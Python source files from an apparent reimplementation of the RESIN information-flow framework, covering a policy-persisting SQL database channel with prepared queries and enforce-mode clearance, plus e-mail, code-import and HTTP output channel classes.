                db.query(f"INSERT INTO audit_log ...")
        """
        return self.engine.locked(*tables)

    # -- execution with policy persistence ---------------------------------------------------

    def _execute(self, sql) -> Result:
        statement = parse(sql) if isinstance(sql, str) else sql
        # Policy persistence is a read-modify-write sequence over the shared
        # engine (inspect schema, add policy columns, execute); hold the
        # locks of exactly the tables this statement touches across the
        # whole sequence, so concurrent requests see consistent schemas
        # while statements on independent tables run in parallel.  On a
        # durable engine the whole mutating sequence additionally runs
        # under the durability gate (taken before the table locks, the
        # required order), so the lazy ``add_column`` calls below stay
        # atomic with respect to checkpoints; the engine's nested gate
        # entries are reentrant and its nested commits defer to ours.
        mutates = not isinstance(statement, nodes.Select)
        with self._durable_scope(mutates):
            with self.engine.locked(*self.engine.statement_tables(statement)):
                result = self._dispatch(statement)
        if mutates:
            sink = self.engine.durability
            if sink is not None:
                sink.commit()
        return result

    def _durable_scope(self, mutates: bool):
        sink = self.engine.durability
        if sink is None or not mutates:
            return contextlib.nullcontext()
        return sink.mutation()

    def _dispatch(self, statement) -> Result:
        if not self.persist_policies:
            return self.engine.execute(statement)
        if isinstance(statement, nodes.CreateTable):
            return self._create(statement)
        if isinstance(statement, nodes.Insert):
            return self._insert(statement)
        if isinstance(statement, nodes.Update):
            return self._update(statement)
        if isinstance(statement, nodes.Select):
            return self._select(statement)
        return self.engine.execute(statement)

    def _create(self, stmt: nodes.CreateTable) -> Result:
        augmented_columns: List[nodes.ColumnDef] = []
        for column in stmt.columns:
            augmented_columns.append(column)
        for column in stmt.columns:
            if not is_policy_column(column.name):
                augmented_columns.append(
                    nodes.ColumnDef(policy_column(column.name), "TEXT"))
        return self.engine.execute(nodes.CreateTable(
            stmt.table, augmented_columns, stmt.if_not_exists))

    def _insert(self, stmt: nodes.Insert) -> Result:
        columns = list(stmt.columns)
        new_rows: List[List[nodes.Expr]] = []
        policy_columns = [policy_column(c) for c in stmt.columns
                          if not is_policy_column(c)]
        for row in stmt.rows:
            new_row = list(row)
            for column, expr in zip(stmt.columns, row):
                if is_policy_column(column):
                    continue
                serialized = None
                if isinstance(expr, nodes.Literal):
                    serialized = serialize_cell_policies(expr.value)
                new_row.append(nodes.Literal(serialized))
            new_rows.append(new_row)
        table = self.engine.tables.get(stmt.table)
        if table is not None:
            for name in policy_columns:
                if not table.has_column(name):
                    table.add_column(nodes.ColumnDef(name, "TEXT"))
        return self.engine.execute(
            nodes.Insert(stmt.table, columns + policy_columns, new_rows))

    def _update(self, stmt: nodes.Update) -> Result:
        assignments = list(stmt.assignments)
        for column, expr in stmt.assignments:
            if is_policy_column(column):
                continue
            serialized = None
            if isinstance(expr, nodes.Literal):
                serialized = serialize_cell_policies(expr.value)
            table = self.engine.tables.get(stmt.table)
            if table is not None and not table.has_column(policy_column(column)):
                table.add_column(nodes.ColumnDef(policy_column(column), "TEXT"))
            assignments.append((policy_column(column),
                                nodes.Literal(serialized)))
        return self.engine.execute(
            nodes.Update(stmt.table, assignments, stmt.where))

    def _select(self, stmt: nodes.Select) -> Result:
        if stmt.table is None or stmt.table not in self.engine.tables:
            return self.engine.execute(stmt)
        table = self.engine.tables[stmt.table]
        data_columns = [c for c in table.column_names if not is_policy_column(c)]

        items: List[nodes.SelectItem] = []
        annotate: List[tuple] = []  # (output_name, policy_output_name)
        for item in stmt.items:
            if isinstance(item.expr, nodes.Star):
                for name in data_columns:
                    items.append(nodes.SelectItem(nodes.ColumnRef(name)))
                    annotate.append((name, self._add_policy_item(
                        items, table, name)))
            else:
                items.append(item)
                if (isinstance(item.expr, nodes.ColumnRef)
                        and not is_policy_column(item.expr.name)
                        and table.has_column(policy_column(item.expr.name))):
                    annotate.append((item.output_name, self._add_policy_item(
                        items, table, item.expr.name, item.output_name)))

        augmented = nodes.Select(items, stmt.table, stmt.where, stmt.order_by,
                                 stmt.limit, stmt.offset, stmt.distinct)
        raw = self.engine.execute(augmented)

        requested = [item.output_name for item in stmt.items
                     if not isinstance(item.expr, nodes.Star)]
        if any(isinstance(item.expr, nodes.Star) for item in stmt.items):
            requested = data_columns + [
                item.output_name for item in stmt.items
                if not isinstance(item.expr, nodes.Star)]

        out_rows: List[Row] = []
        for row in raw.rows:
            values = {}
            for column in requested:
                values[column] = row[column] if column in row else None
            for data_name, policy_name in annotate:
                if policy_name and policy_name in row:
                    values[data_name] = apply_cell_policies(
                        values.get(data_name), row[policy_name],
                        tolerant=self.tolerant_policies)
            out_rows.append(Row(requested, [values[c] for c in requested]))
        return Result(requested, out_rows)

    def _add_policy_item(self, items: List[nodes.SelectItem], table,
                         column: str, alias_base: Optional[str] = None):
        name = policy_column(column)
        if not table.has_column(name):
            return None
        alias = policy_column(alias_base) if alias_base else name
        items.append(nodes.SelectItem(nodes.ColumnRef(name), alias))
        return alias
