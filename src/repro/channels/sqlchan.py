"""SQL channel: policy persistence across the database.

The paper attaches a default filter object to the function that issues SQL
queries, and uses it to rewrite queries and results (Figure 4):

* ``CREATE TABLE`` gains one extra ``__policy_<col>`` column per data column;
* writes (``INSERT`` / ``UPDATE``) store the serialized policies of each cell
  value into the corresponding policy column;
* reads (``SELECT``) also fetch the policy columns and re-attach the
  de-serialized policies to each cell of the result.

``Database`` below is the application-facing handle.  Queries are issued as
(possibly tainted) SQL text; the query text itself flows through the
channel's filter chain as a guarded function call, which is where an
application-supplied SQL-injection filter interposes (Section 5.3).
"""

from __future__ import annotations
import contextlib
import json
import warnings
from typing import Any, Callable, Dict, FrozenSet, List, Optional
from ..core.context import FilterContext
from ..core.exceptions import SQLError
from ..core.filter import Filter, FilterChain
from ..core.registry import resolve_registry
from ..core.request_context import current_request
from ..core.serialization import (deserialize_policy, deserialize_policyset,
                                  deserialize_rangemap, serialize_policyset,
                                  serialize_rangemap)
from ..sql import nodes
from ..sql.engine import Engine, Result, Row
from ..sql.parser import parse
from ..sql.planner import bind_parameters, collect_params
from ..sql.tokenizer import PARAM, tokenize
from ..tracking.propagation import policies_of
from ..tracking.tainted_number import TaintedFloat, TaintedInt
from ..tracking.tainted_str import TaintedStr

#: Prefix of the hidden policy columns.
POLICY_COLUMN_PREFIX = "__policy_"

#: Valid policy enforcement modes: ``observe`` re-attaches policies to every
#: result cell and pays the export check per value (the paper's behaviour);
#: ``enforce`` additionally asks each policy for a plan-level verdict once
#: per distinct stored policy blob and skips attachment when the requesting
#: principal clears every policy — falling back to per-value checks whenever
#: a policy cannot decide ahead of export.
POLICY_MODES = ("observe", "enforce")

_DEFAULT_POLICY_MODE = "observe"


def get_default_policy_mode() -> str:
    """The mode newly-constructed :class:`Database` handles start in."""
    return _DEFAULT_POLICY_MODE


@contextlib.contextmanager
def default_policy_mode(mode: str):
    """Run a block with a different default mode for new ``Database``
    handles (used by the evaluation harnesses, whose scenarios build their
    own environments internally).  A plain process-wide default, not a
    context variable: the concurrent harnesses run one mode per pass and
    restore it around the whole run."""
    if mode not in POLICY_MODES:
        raise ValueError(f"unknown policy mode {mode!r} (use {POLICY_MODES})")
    global _DEFAULT_POLICY_MODE
    previous = _DEFAULT_POLICY_MODE
    _DEFAULT_POLICY_MODE = mode
    try:
        yield
    finally:
        _DEFAULT_POLICY_MODE = previous


#: Bound on the per-database deserialized-blob cache (cleared, not evicted,
#: when full: the blob population is small and repetitive in practice).
_BLOB_CACHE_LIMIT = 1024

_CACHE_MISS = object()


def policy_column(column: str) -> str:
    return POLICY_COLUMN_PREFIX + column


def is_policy_column(column: str) -> bool:
    return column.startswith(POLICY_COLUMN_PREFIX)


def serialize_cell_policies(value: Any) -> Optional[str]:
    """Serialize the policies of one cell value to a JSON string, or ``None``
    if the value carries no policy."""
    if isinstance(value, TaintedStr):
        if value.rangemap.is_empty():
            return None
        return json.dumps({"kind": "rangemap",
                           "map": _rangemap_record(value.rangemap)})
    if isinstance(value, (TaintedInt, TaintedFloat)):
        policies = value.policies()
        if not policies:
            return None
        return json.dumps({"kind": "policyset",
                           "policies": serialize_policyset(policies)})
    policies = policies_of(value)
    if not policies:
        return None
    return json.dumps({"kind": "policyset",
                       "policies": serialize_policyset(policies)})


def apply_cell_policies(value: Any, serialized: Optional[str], *,
                        tolerant: bool = False) -> Any:
    """Re-attach the policies stored in ``serialized`` to ``value``.

    ``tolerant=True`` (set on databases recovered by a tolerant durability
    open) loads policies whose class is unknown as deny-by-default
    :class:`~repro.core.serialization.UnknownPolicy` placeholders instead of
    raising, so one stale record cannot make a whole table unreadable."""
    if not serialized or value is None:
        return value
    record = json.loads(serialized)
    if record.get("kind") == "rangemap" and isinstance(value, str):
        rangemap = deserialize_rangemap(record["map"], tolerant=tolerant)
        if rangemap.length != len(value):
            rangemap = rangemap.spread(len(value)).with_length(len(value))
        return TaintedStr(str(value), rangemap)
    policies = deserialize_policyset(record.get("policies", []),
                                     tolerant=tolerant)
    if isinstance(value, str):
        result = TaintedStr(str(value))
        for policy in policies:
            result = result.with_policy(policy)
        return result
    if isinstance(value, int) and not isinstance(value, bool):
        return TaintedInt(value, policies)
    if isinstance(value, float):
        return TaintedFloat(value, policies)
    return value


def _rangemap_record(rangemap) -> dict:
    return serialize_rangemap(rangemap)


class Database:
    """A RESIN-aware database connection."""

    def __init__(self, engine: Optional[Engine] = None,
                 persist_policies: bool = True,
                 context: Optional[dict] = None, *,
                 registry=None, env=None):
        self.engine = engine if engine is not None else Engine()
        self.env = env
        ctx = FilterContext(type="sql")
        # Carried as an attribute (never printed in violation messages):
        # lets request-scoped helpers ignore requests bound for other
        # environments.
        ctx.env = env
        if context:
            ctx.update(context)
        self.registry = resolve_registry(registry, env)
        default = self.registry.make_default_filter("sql", ctx)
        self.filter = FilterChain([default], ctx)
        self.context = ctx
        self.persist_policies = persist_policies
        #: When True (set by a tolerant durability open), unknown policy
        #: classes in stored policy columns load as deny-by-default
        #: ``UnknownPolicy`` placeholders instead of failing the read.
        self.tolerant_policies = False
        #: ``observe`` or ``enforce`` — see :data:`POLICY_MODES`.
        self.policy_mode = _DEFAULT_POLICY_MODE
        # Deserialized-policy cache for enforce-mode clearance, keyed by the
        # stored blob string (deserialization is deterministic, so entries
        # never go stale).  Verdicts are NOT cached here — they depend on
        # the requesting context and are memoized per execution instead.
        self._blob_cache: Dict[str, Optional[List]] = {}

    def set_policy_mode(self, mode: str) -> None:
        """Switch this handle between ``observe`` and ``enforce``.

        Both modes produce identical export verdicts; ``enforce`` pays
        decidable policy checks once per query plan instead of once per
        result cell (see ``docs/API.md``)."""
        if mode not in POLICY_MODES:
            raise ValueError(
                f"unknown policy mode {mode!r} (use {POLICY_MODES})")
        self.policy_mode = mode

    # -- filter management ---------------------------------------------------------

    def add_filter(self, flt: Filter) -> None:
        """Stack an application filter (e.g. a SQL-injection assertion) on
        the query path.

        While a :class:`~repro.core.request_context.RequestContext` for this
        database's environment is active, the filter joins that request's
        *overlay*: it guards queries only for the duration of the request and
        pops automatically when the request ends.  Outside a request — or on
        a database the bound request's environment does not own — the filter
        joins the base chain and guards every query for the life of the
        connection (the pre-request-context behaviour — use this for
        deployment-time assertions).
        """
        rctx = self._request()
        if rctx is not None:
            rctx.add_db_filter(self, flt)
            return
        flt.context = self.context
        self.filter.append(flt)

    def _request(self):
        """The RequestContext owning this database, if one is bound.

        The environment check keeps requests from capturing (and then
        silently dropping) filters destined for some *other* environment's
        database."""
        rctx = current_request()
        if (rctx is not None and self.env is not None
                and rctx.env is self.env):
            return rctx
        return None

    def _effective_chain(self) -> FilterChain:
        """The base chain plus the current request's overlay (if any)."""
        rctx = self._request()
        overlay = rctx.db_filters(self) if rctx is not None else ()
        if not overlay:
            return self.filter
        return FilterChain(list(self.filter.filters) + list(overlay),
                           self.context)

    # -- query API -----------------------------------------------------------------------

    def query(self, sql, params: Optional[Dict[str, Any]] = None
              ) -> "PreparedQuery":
        """Prepare and (when fully bound) execute one SQL statement.

        Returns a :class:`PreparedQuery`.  A statement without unbound
        ``:name`` parameters executes immediately — the handle then behaves
        exactly like the :class:`~repro.sql.engine.Result` it wraps (rows,
        columns, ``scalar()``, iteration) — and additionally offers
        ``.explain()`` and ``.run(**params)`` for re-execution.  A statement
        with unbound parameters defers execution until ``.run()``.

        Every execution passes the *raw* query text through the channel's
        filter chain (the base filters, then the current request's overlay
        filters) as a guarded function call before parsing, so stacked
        filters see exactly what the application sent (including the
        character-level policies of any interpolated user input);
        parameters are bound after the chain, into the parsed statement.
        """
        return PreparedQuery(self, sql, params)

    def execute(self, sql) -> "PreparedQuery":
        """Deprecated alias for :meth:`query` (the pre-plan-API entry
        point).  Use ``db.query(sql)`` instead."""
        warnings.warn(
            "Database.execute() is deprecated; use Database.query(), which "
            "returns a prepared, re-runnable plan handle",
            DeprecationWarning, stacklevel=2)
        return self.query(sql)

    def execute_unchecked(self, sql) -> Result:
        """Execute a statement bypassing stacked filters (still persisting
        policies).  Intended for schema setup in tests and installers."""
        return self._execute(sql)

    def create_index(self, table: str, column: str, kind: str = "sorted",
                     name: Optional[str] = None) -> Result:
        """Declare a secondary index on ``table.column`` (schema setup —
        bypasses stacked filters, like :meth:`execute_unchecked`).  The
        definition is WAL-logged and snapshot-persisted on durable engines;
        the index itself is rebuilt from rows on recovery."""
        return self.engine.create_index(table, column, kind, name)

    def transaction(self, *tables: str):
        """Hold the locks of ``tables`` across a compound operation.

        Use this for application-level read-modify-write sequences that span
        several queries (check then update, move a row between tables, …):
        the named tables stay consistent for the whole block while queries
        against *other* tables proceed concurrently.  The locks are acquired
        in deterministic (sorted-name) order — the engine's lock-ordering
        rule — so overlapping transactions never deadlock.  Name every
        table the block touches: a query inside the block against a table
        that sorts before the held set would break the ordering, and the
        engine raises ``SQLError`` rather than risk a deadlock::

            with db.transaction("accounts", "audit_log"):
                balance = db.query("SELECT ... FROM accounts ...").scalar()
                db.query(f"UPDATE accounts SET ...")
                db.query(f"INSERT INTO audit_log ...")
        """
        return self.engine.locked(*tables)

    # -- execution with policy persistence ---------------------------------------------------

    def _execute(self, sql, params: Optional[Dict[str, Any]] = None) -> Result:
        statement = parse(sql) if isinstance(sql, str) else sql
        if params:
            statement = bind_parameters(statement, params)
        # Policy persistence is a read-modify-write sequence over the shared
        # engine (inspect schema, add policy columns, execute); hold the
        # locks of exactly the tables this statement touches across the
        # whole sequence, so concurrent requests see consistent schemas
        # while statements on independent tables run in parallel.  On a
        # durable engine the whole mutating sequence additionally runs
        # under the durability gate (taken before the table locks, the
        # required order), so the lazy ``add_column`` calls below stay
        # atomic with respect to checkpoints; the engine's nested gate
        # entries are reentrant and its nested commits defer to ours.
        mutates = not isinstance(statement, (nodes.Select, nodes.Explain))
        with self._durable_scope(mutates):
            with self.engine.locked(*self.engine.statement_tables(statement)):
                result = self._dispatch(statement)
        if mutates:
            sink = self.engine.durability
            if sink is not None:
                sink.commit()
        return result

    def _durable_scope(self, mutates: bool):
        sink = self.engine.durability
        if sink is None or not mutates:
            return contextlib.nullcontext()
        return sink.mutation()

    def _dispatch(self, statement) -> Result:
        if isinstance(statement, nodes.Explain):
            # Planned over the application's statement: the policy-column
            # augmentation is an execution detail and is elided from plans.
            return Result(["plan"],
                          [[line] for line in self._explain(statement.statement)])
        if not self.persist_policies:
            return self.engine.run(statement)
        if isinstance(statement, nodes.CreateTable):
            return self._create(statement)
        if isinstance(statement, nodes.Insert):
            return self._insert(statement)
        if isinstance(statement, nodes.Update):
            return self._update(statement)
        if isinstance(statement, nodes.Select):
            return self._select(statement)
        return self.engine.run(statement)

    def _explain(self, statement) -> List[str]:
        """Stable plan text: a ``PolicyMode`` header line, then the engine
        plan (one node per line, two-space indent per level)."""
        return ([f"PolicyMode {self.policy_mode}"]
                + self.engine.explain_lines(statement))

    def _create(self, stmt: nodes.CreateTable) -> Result:
        augmented_columns: List[nodes.ColumnDef] = []
        for column in stmt.columns:
            augmented_columns.append(column)
        for column in stmt.columns:
            if not is_policy_column(column.name):
                augmented_columns.append(
                    nodes.ColumnDef(policy_column(column.name), "TEXT"))
        return self.engine.run(nodes.CreateTable(
            stmt.table, augmented_columns, stmt.if_not_exists))

    def _insert(self, stmt: nodes.Insert) -> Result:
        columns = list(stmt.columns)
        new_rows: List[List[nodes.Expr]] = []
        policy_columns = [policy_column(c) for c in stmt.columns
                          if not is_policy_column(c)]
        for row in stmt.rows:
            new_row = list(row)
            for column, expr in zip(stmt.columns, row):
                if is_policy_column(column):
                    continue
                serialized = None
                if isinstance(expr, nodes.Literal):
                    serialized = serialize_cell_policies(expr.value)
                new_row.append(nodes.Literal(serialized))
            new_rows.append(new_row)
        table = self.engine.tables.get(stmt.table)
        if table is not None:
            for name in policy_columns:
                if not table.has_column(name):
                    table.add_column(nodes.ColumnDef(name, "TEXT"))
        return self.engine.run(
            nodes.Insert(stmt.table, columns + policy_columns, new_rows))

    def _update(self, stmt: nodes.Update) -> Result:
        assignments = list(stmt.assignments)
        for column, expr in stmt.assignments:
            if is_policy_column(column):
                continue
            serialized = None
            if isinstance(expr, nodes.Literal):
                serialized = serialize_cell_policies(expr.value)
            table = self.engine.tables.get(stmt.table)
            if table is not None and not table.has_column(policy_column(column)):
                table.add_column(nodes.ColumnDef(policy_column(column), "TEXT"))
            assignments.append((policy_column(column),
                                nodes.Literal(serialized)))
        return self.engine.run(
            nodes.Update(stmt.table, assignments, stmt.where))

    def _select(self, stmt: nodes.Select) -> Result:
        if stmt.table is None or stmt.table not in self.engine.tables:
            return self.engine.run(stmt)
        table = self.engine.tables[stmt.table]
        data_columns = [c for c in table.column_names if not is_policy_column(c)]

        items: List[nodes.SelectItem] = []
        annotate: List[tuple] = []  # (output_name, policy_output_name)
        for item in stmt.items:
            if isinstance(item.expr, nodes.Star):
                for name in data_columns:
                    items.append(nodes.SelectItem(nodes.ColumnRef(name)))
                    annotate.append((name, self._add_policy_item(
                        items, table, name)))
            else:
                items.append(item)
                if (isinstance(item.expr, nodes.ColumnRef)
                        and not is_policy_column(item.expr.name)
                        and table.has_column(policy_column(item.expr.name))):
                    annotate.append((item.output_name, self._add_policy_item(
                        items, table, item.expr.name, item.output_name)))

        augmented = nodes.Select(items, stmt.table, stmt.where, stmt.order_by,
                                 stmt.limit, stmt.offset, stmt.distinct)
        raw = self.engine.run(augmented)

        requested = [item.output_name for item in stmt.items
                     if not isinstance(item.expr, nodes.Star)]
        if any(isinstance(item.expr, nodes.Star) for item in stmt.items):
            requested = data_columns + [
                item.output_name for item in stmt.items
                if not isinstance(item.expr, nodes.Star)]

        cleared = self._plan_clearance()
        out_rows: List[Row] = []
        for row in raw.rows:
            values = {}
            for column in requested:
                values[column] = row[column] if column in row else None
            for data_name, policy_name in annotate:
                if policy_name and policy_name in row:
                    serialized = row[policy_name]
                    if cleared is not None and cleared(serialized):
                        # Enforce mode: every policy in this blob allowed the
                        # requesting principal at plan level — the value
                        # flows out plain, skipping per-cell attachment.
                        continue
                    values[data_name] = apply_cell_policies(
                        values.get(data_name), serialized,
                        tolerant=self.tolerant_policies)
            out_rows.append(Row(requested, [values[c] for c in requested]))
        return Result(requested, out_rows)

    # -- enforce-mode plan-level clearance -----------------------------------------------

    def _plan_clearance(self) -> Optional[Callable[[Optional[str]], bool]]:
        """In enforce mode, a per-execution predicate deciding — once per
        distinct stored policy blob — whether the requesting principal
        clears *every* policy in the blob via
        :meth:`~repro.core.policy.Policy.scan_predicate`.

        Returns ``None`` (observe behaviour) when the mode is ``observe``
        or when no request context is bound to this database's environment
        — without a requesting principal there is nothing to clear against.
        Any blob that fails to deserialize, or contains a policy answering
        ``False``/``None``, falls back to per-cell attachment, so verdicts
        are identical to observe mode by construction."""
        if self.policy_mode != "enforce":
            return None
        context = self._enforcement_context()
        if context is None:
            return None
        memo: Dict[str, bool] = {}

        def cleared(serialized: Optional[str]) -> bool:
            if not serialized:
                return False
            verdict = memo.get(serialized)
            if verdict is None:
                memo[serialized] = verdict = self._blob_cleared(
                    serialized, context)
            return verdict

        return cleared

    def _enforcement_context(self) -> Optional[FilterContext]:
        """The export context the current request would present at its HTTP
        boundary.  Clearance is scoped to the requesting principal: a value
        cleared here and then re-exported through a *different* channel in
        the same request is over-approximated as allowed (documented
        enforce-mode caveat; use observe mode for such flows)."""
        rctx = self._request()
        if rctx is None:
            return None
        http = getattr(rctx, "http", None)
        if http is not None and getattr(http, "context", None) is not None:
            return http.context
        context = FilterContext(type="http", user=rctx.user)
        if rctx.priv_chair:
            context["priv_chair"] = True
        for key, value in rctx.extra.items():
            context.setdefault(key, value)
        context.env = self.env
        return context

    def _blob_cleared(self, serialized: str, context: FilterContext) -> bool:
        policies = self._blob_cache.get(serialized, _CACHE_MISS)
        if policies is _CACHE_MISS:
            try:
                policies = self._blob_policies(json.loads(serialized))
            except Exception:
                policies = None
            if len(self._blob_cache) >= _BLOB_CACHE_LIMIT:
                self._blob_cache.clear()
            self._blob_cache[serialized] = policies
        if policies is None:
            self._record_scan(False, None, context)
            return False
        for policy in policies:
            if policy.scan_predicate(context) is not True:
                self._record_scan(False, policies, context)
                return False
        self._record_scan(True, policies, context)
        return True

    def _record_scan(self, cleared: bool, policies, context) -> None:
        """Audit one enforce-mode scan decision (per distinct blob — the
        per-execution memo in ``_plan_clearance`` already dedupes).  A
        not-cleared blob is not a violation: the plan falls back to the
        observe path for it, so the verdict is what the recorder reports."""
        from ..audit.recorder import recorder_for
        recorder = recorder_for(self.env)
        if recorder is not None:
            recorder.record("sql.scan",
                            verdict="allow" if cleared else "deny",
                            context=context, policies=policies,
                            channel="sql")

    def _blob_policies(self, record) -> Optional[List]:
        tolerant = self.tolerant_policies
        kind = record.get("kind")
        if kind == "rangemap":
            segments = record.get("map", {}).get("segments", [])
            return [deserialize_policy(item, tolerant=tolerant)
                    for _start, _stop, items in segments for item in items]
        if kind == "policyset":
            return list(deserialize_policyset(record.get("policies", []),
                                              tolerant=tolerant))
        return None

    def _add_policy_item(self, items: List[nodes.SelectItem], table,
                         column: str, alias_base: Optional[str] = None):
        name = policy_column(column)
        if not table.has_column(name):
            return None
        alias = policy_column(alias_base) if alias_base else name
        items.append(nodes.SelectItem(nodes.ColumnRef(name), alias))
        return alias


def _query_param_names(sql) -> FrozenSet[str]:
    """The ``:name`` parameters a query mentions.

    Cheap on the hot path: SQL text without a ``:`` has no parameters and
    skips tokenization entirely.  Text that fails to tokenize is reported
    as parameterless — the filter chain may rewrite it into valid SQL (the
    auto-sanitizing filter does), so errors are left to the execution path,
    which sees exactly what the chain produced."""
    if isinstance(sql, str):
        if ":" not in str(sql):
            return frozenset()
        try:
            return frozenset(str(token.value) for token in tokenize(sql)
                             if token.type == PARAM)
        except SQLError:
            return frozenset()
    return frozenset(collect_params(sql))


class PreparedQuery:
    """The handle :meth:`Database.query` returns.

    Wraps one SQL statement plus its (possibly partial) parameter bindings.
    When every ``:name`` parameter is bound the statement executes eagerly
    at construction, so ``db.query(sql)`` keeps its pre-plan-API behaviour —
    the handle delegates the whole :class:`~repro.sql.engine.Result` API to
    the most recent execution.  On top of that it offers:

    * ``run(**params)`` — (re-)execute with additional bindings; each
      execution re-enters the channel's filter chain with the *original*
      query text, so injection filters and request overlays apply every
      time;
    * ``explain()`` — the plan as stable text (``PolicyMode`` header, then
      one node per line, two-space indent per level) without executing;
      unbound parameters appear as ``:name`` in plan predicates.
    """

    def __init__(self, db: Database, sql,
                 params: Optional[Dict[str, Any]] = None):
        self._db = db
        self._sql = sql
        self._params: Dict[str, Any] = dict(params) if params else {}
        self._names = _query_param_names(sql)
        self._result: Optional[Result] = None
        if not (self._names - set(self._params)):
            self._result = self._invoke(self._params)

    def _invoke(self, params: Dict[str, Any]) -> Result:
        kwargs = {"params": params} if params else {}
        return self._db._effective_chain().filter_func(
            self._db._execute, (self._sql,), kwargs)

    def run(self, **params: Any) -> "PreparedQuery":
        """(Re-)execute with ``params`` overlaid on the constructor's
        bindings; returns ``self`` for chaining."""
        merged = {**self._params, **params}
        missing = self._names - set(merged)
        if missing:
            raise SQLError("unbound parameter :"
                           + ", :".join(sorted(missing)))
        self._params = merged
        self._result = self._invoke(merged)
        return self

    def explain(self) -> str:
        """The statement's plan as stable text, without executing it."""
        statement = (parse(self._sql) if isinstance(self._sql, str)
                     else self._sql)
        if isinstance(statement, nodes.Explain):
            statement = statement.statement
        if self._params:
            statement = bind_parameters(statement, self._params)
        return "\n".join(self._db._explain(statement))

    # -- Result delegation ---------------------------------------------------------

    @property
    def result(self) -> Result:
        """The most recent execution's :class:`~repro.sql.engine.Result`."""
        if self._result is None:
            missing = sorted(self._names - set(self._params))
            raise SQLError(
                "prepared query has unbound parameters (:"
                + ", :".join(missing) + "); call .run(name=value, ...)")
        return self._result

    @property
    def columns(self):
        return self.result.columns

    @property
    def rows(self):
        return self.result.rows

    @property
    def rowcount(self):
        return self.result.rowcount

    def scalar(self):
        return self.result.scalar()

    def __iter__(self):
        return iter(self.result)

    def __len__(self):
        return len(self.result)

    def __bool__(self):
        return bool(self.result)

    def __repr__(self) -> str:
        state = ("unbound" if self._result is None
                 else f"{self.result.rowcount} rows")
        return f"PreparedQuery({str(self._sql)[:60]!r}, {state})"
