"""E-mail channel.

Outgoing e-mail is modelled as a sendmail pipe per message (Figure 1): the
channel's context carries the recipient address, so a ``PasswordPolicy``
attached to the message body can check that the password is flowing to its
owner's address and nowhere else.
"""

from __future__ import annotations
from typing import List, Optional


from ..tracking.propagation import concat, to_tainted_str
from .base import CollectingChannel


class EmailChannel(CollectingChannel):
    """The channel for one outgoing e-mail message."""

    channel_type = "email"

    def __init__(self, recipient: str, context: Optional[dict] = None, *,
                 registry=None, env=None):
        ctx = dict(context or {})
        ctx.setdefault("email", recipient)
        super().__init__(ctx, registry=registry, env=env)
        self.recipient = recipient


class Message:
    """A delivered e-mail message (as seen by the mail server)."""

    def __init__(self, to: str, subject: str, body: str,
                 sender: Optional[str] = None):
        self.to = to
        self.subject = subject
        self.body = body
        self.sender = sender

    def __repr__(self) -> str:
        return f"Message(to={self.to!r}, subject={self.subject!r})"


class MailTransport:
    """Sends e-mail messages through per-message :class:`EmailChannel`\\ s.

    Messages that pass the assertion checks end up in :attr:`outbox`
    (representing actual delivery); messages that violate an assertion raise
    and are never delivered.
    """

    def __init__(self, default_sender: str = "noreply@example.org", *,
                 registry=None, env=None):
        import threading

        from ..core.registry import resolve_registry
        self.default_sender = default_sender
        self.registry = resolve_registry(registry, env)
        #: The owning environment; forwarded to every per-message channel so
        #: policies can resolve environment services at the e-mail boundary.
        self.env = env
        self.outbox: List[Message] = []
        self._lock = threading.Lock()

    def send(self, to: str, subject: str, body,
             sender: Optional[str] = None) -> Message:
        """Compose and send one message.

        The full message text (headers + body) flows through the e-mail
        channel, so policies attached anywhere in the body are checked
        against the recipient in the channel context.
        """
        sender = sender or self.default_sender
        channel = EmailChannel(to, registry=self.registry, env=self.env)
        text = concat("From: ", sender, "\r\nTo: ", to,
                      "\r\nSubject: ", to_tainted_str(subject), "\r\n\r\n",
                      to_tainted_str(body))
        channel.write(text)
        message = Message(to=to, subject=str(subject),
                          body=str(to_tainted_str(body)), sender=sender)
        with self._lock:
            self.outbox.append(message)
        return message

    def sent_to(self, address: str) -> List[Message]:
        with self._lock:
            return [m for m in self.outbox if m.to == address]

    def clear(self) -> None:
        with self._lock:
            self.outbox.clear()
