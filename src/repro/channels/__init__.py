"""I/O channels and their default filters."""

from .base import Channel, CollectingChannel
from .codeimport import CodeChannel
from .httpout import HTTPOutputChannel
from .mail import EmailChannel, MailTransport, Message
from .socketchan import PipeChannel, SocketChannel
from .sqlchan import (Database, apply_cell_policies, is_policy_column,
                      policy_column, serialize_cell_policies)

__all__ = [
    "Channel", "CollectingChannel",
    "SocketChannel", "PipeChannel",
    "HTTPOutputChannel",
    "EmailChannel", "MailTransport", "Message",
    "CodeChannel",
    "Database", "policy_column", "is_policy_column",
    "serialize_cell_policies", "apply_cell_policies",
]
