"""Code-import channel.

RESIN treats the interpreter's execution of script code as another data flow
channel, with its own filter object (Section 3.2.2).  Everything the
interpreter is about to execute — whether reached through an include
statement, ``eval``, or a direct request for an uploaded script — flows
through this channel's ``filter_read`` first.

The built-in default filter is permissive (it runs ``export_check`` but
allows unannotated data).  The script-injection assertion replaces it with
:class:`repro.interp.filters.InterpreterFilter`, which requires every
character of the code to carry a ``CodeApproval`` policy.
"""

from __future__ import annotations

from typing import Optional

from ..tracking.propagation import to_tainted_str
from ..tracking.tainted_str import TaintedStr
from .base import Channel


class CodeChannel(Channel):
    """The boundary through which code enters the interpreter."""

    channel_type = "code"

    def load(self, source, origin: Optional[str] = None) -> TaintedStr:
        """Run ``source`` through the import boundary and return the code the
        interpreter may execute.  Raises if the channel's filter rejects it."""
        if isinstance(source, (bytes, bytearray)):
            source = to_tainted_str(source)
        source = to_tainted_str(source)
        if origin is not None:
            self.context["origin"] = origin
        return self.filter.filter_read(source)

    def _transmit(self, data) -> None:  # pragma: no cover - code flows inward
        raise NotImplementedError("code channels are read-only")

    def _receive(self, size: Optional[int] = None):
        return TaintedStr("")
