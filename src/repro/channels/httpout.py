"""HTTP output channel.

Represents the response stream back to a browser.  It is the boundary most
of the paper's assertions care about (password disclosure, ACL checks,
cross-site scripting), and it implements the output-buffering mechanism of
Section 5.5 so applications can drive access checks from assertion
exceptions.
"""

from __future__ import annotations

from typing import Any, List, Optional

from ..core.runtime import OutputBuffer
from ..tracking.propagation import to_tainted_str
from .base import Channel


class HTTPOutputChannel(Channel):
    """The response stream of one HTTP request."""

    channel_type = "http"

    def __init__(self, context: Optional[dict] = None, *,
                 registry=None, env=None):
        super().__init__(context, registry=registry, env=env)
        self.chunks: List[str] = []
        self.status = 200
        self.headers: List[tuple] = []
        self.buffer = OutputBuffer(self._deliver)
        #: A deferred streaming body (a :class:`~repro.web.response.Response`
        #: whose stream chunks were not drained at apply time).  Set by the
        #: application when the request came through a streaming consumer —
